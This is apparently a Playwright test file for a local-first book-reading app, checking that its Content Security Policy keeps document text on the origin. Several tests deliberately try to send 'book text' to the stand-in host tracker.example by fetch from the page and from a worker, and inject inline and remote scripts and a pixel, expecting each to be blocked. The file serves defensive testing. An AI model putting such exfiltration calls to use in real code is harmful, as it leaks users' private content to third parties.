import { expect, test } from '@playwright/test';
import { bookPages, makeDocx, makeEpub, makeHtml, makePdf } from '../test/fixtures/documents';
import { PLANTED, plantedBook, readBook } from './helpers';
import { expectPrivate, watchTraffic } from './privacy';

test('an import and a whole read with the extractive engine: nothing leaves the origin, no document text in any request', async ({
  page,
  context,
  baseURL,
}) => {
  const traffic = await watchTraffic(context);
  const response = await page.goto('/');
  // The policy arrives both ways: as a header (which also binds the workers) and as a <meta> tag (for hosts that send no headers).
  expect(response?.headers()['content-security-policy']).toContain("connect-src 'self'");
  expect(await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content'))).toContain(
    "script-src 'self' 'wasm-unsafe-eval'",
  );

  await readBook(page, plantedBook(0.6));
  await expect(page.getByRole('region', { name: 'Answer' })).toContainText(PLANTED.code);

  // Every other reader (pdf.js, the ZIP and HTML readers) loads in the worker too: import one of each, each with the fact.
  const files = [
    { name: 'book.pdf', mimeType: 'application/pdf', buffer: Buffer.from(await makePdf(bookPages(PLANTED.sentence))) },
    { name: 'book.epub', mimeType: 'application/epub+zip', buffer: Buffer.from(makeEpub()) },
    { name: 'book.docx', mimeType: 'application/octet-stream', buffer: Buffer.from(makeDocx()) },
    { name: 'page.html', mimeType: 'text/html', buffer: Buffer.from(makeHtml()) },
  ];
  for (const file of files) {
    await page.getByLabel('Document').setInputFiles(file);
    await expect(page.getByText(`${file.name} — `)).toBeVisible();
  }

  await expectPrivate(traffic, [new URL(baseURL!).origin]);
  // The recorder hears the workers: pdf.js is fetched from inside the agent worker, and the service worker precaches the app.
  expect(traffic.requests.some((r) => !r.fromServiceWorker && /\/assets\/pdf\.worker-/.test(r.url))).toBe(true);
  expect(traffic.requests.some((r) => r.fromServiceWorker)).toBe(true);
});

test('the policy stops the page and the worker from reaching any other host', async ({ page, context }) => {
  const traffic = await watchTraffic(context);
  // Were a request let through, this would answer it: only the policy stands between the page and this host.
  const reached: string[] = [];
  await context.route('https://tracker.example/**', (route) => {
    reached.push(route.request().url());
    return route.fulfill({ status: 200, body: 'ok', headers: { 'Access-Control-Allow-Origin': '*' } });
  });
  await page.goto('/');
  await expect(page.getByRole('combobox', { name: 'Engine' })).toBeVisible();

  const fromPage = await page.evaluate(async () => {
    const out: string[] = [];
    try {
      await fetch('https://tracker.example/fetch', { method: 'POST', body: 'book text' });
      out.push('fetch went through');
    } catch {
      out.push('fetch blocked');
    }
    // An injected script, inline or from elsewhere, and a pixel: none may run or load. The policy says so for
    // each of the three, as it refuses it.
    const refused = new Set<string>();
    const allRefused = new Promise<void>((resolve) =>
      document.addEventListener('securitypolicyviolation', (e) => {
        const what = e.blockedURI === 'inline' ? 'inline' : e.blockedURI.startsWith('https://tracker.example') ? e.violatedDirective.split('-')[0]! : '';
        refused.add(what);
        if (['inline', 'script', 'img'].every((w) => refused.has(w))) resolve();
      }),
    );
    const inline = document.createElement('script');
    inline.textContent = 'window.__inlineRan = true';
    document.head.append(inline);
    const remote = document.createElement('script');
    remote.src = 'https://tracker.example/script.js';
    document.head.append(remote);
    const pixel = new Image();
    pixel.src = 'https://tracker.example/pixel.gif';
    await allRefused;
    out.push((window as unknown as { __inlineRan?: boolean }).__inlineRan ? 'inline script ran' : 'inline script blocked');
    return out;
  });
  expect(fromPage).toEqual(['fetch blocked', 'inline script blocked']);

  // The worker that reads books and calls models is bound by the header's policy.
  await expect.poll(() => page.workers().some((w) => w.url().includes('agent.worker'))).toBe(true);
  const worker = page.workers().find((w) => w.url().includes('agent.worker'))!;
  const fromWorker = await worker.evaluate(async () => {
    try {
      await fetch('https://tracker.example/worker', { method: 'POST', body: 'book text' });
      return 'fetch went through';
    } catch {
      return 'fetch blocked';
    }
  });
  expect(fromWorker).toBe('fetch blocked');

  expect(reached).toEqual([]);
  // The page and the worker reported what was refused, so the listeners the other tests rely on work.
  const blocked = (await traffic.violations()).map((v) => v.blockedURI);
  expect(blocked).toEqual(
    expect.arrayContaining(['https://tracker.example/fetch', 'inline', 'https://tracker.example/script.js', 'https://tracker.example/worker']),
  );

  // Started offline from the service worker's cache, the page and its worker keep the policy (the cached responses keep their headers).
  // Active means installed, and installed means the app is precached.
  await page.evaluate(async () => void (await navigator.serviceWorker.ready));
  await context.setOffline(true);
  const cached = await page.reload();
  expect(cached?.fromServiceWorker()).toBe(true);
  expect(cached?.headers()['content-security-policy']).toContain("connect-src 'self'");
  await expect(page.getByRole('combobox', { name: 'Engine' })).toBeVisible();
  await context.setOffline(false);
  await expect.poll(() => page.workers().some((w) => w.url().includes('agent.worker'))).toBe(true);
  const restarted = page.workers().find((w) => w.url().includes('agent.worker'))!;
  const offlineStart = await restarted.evaluate(() =>
    fetch('https://tracker.example/offline-start').then(
      () => 'fetch went through',
      () => 'fetch blocked',
    ),
  );
  expect(offlineStart).toBe('fetch blocked');

  expect(reached).toEqual([]);
});
